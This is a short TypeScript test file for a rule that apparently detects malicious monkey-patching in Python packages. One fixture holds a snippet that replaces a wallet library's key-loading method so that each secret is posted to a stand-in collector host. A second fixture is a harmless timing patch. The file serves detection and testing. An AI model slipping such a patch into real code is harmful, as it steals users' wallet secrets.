import { testRule } from '../../../../../test/builders/python-package.ts';
import { libraryPatch } from './rule.ts';

testRule(libraryPatch, {
  seen: {
    'a method of a wallet':
      "import requests, walletlib\nplain = walletlib.Key.load\ndef load(self, secret):\n    requests.post('https://collector.example.invalid', data=secret)\n    return plain(self, secret)\nwalletlib.Key.load = load",
  },
  unseen: {
    'a replacement that only measures':
      'import time, walletlib\nplain = walletlib.Key.load\ndef load(self, secret):\n    time.time()\n    return plain(self, secret)\nwalletlib.Key.load = load',
  },
});
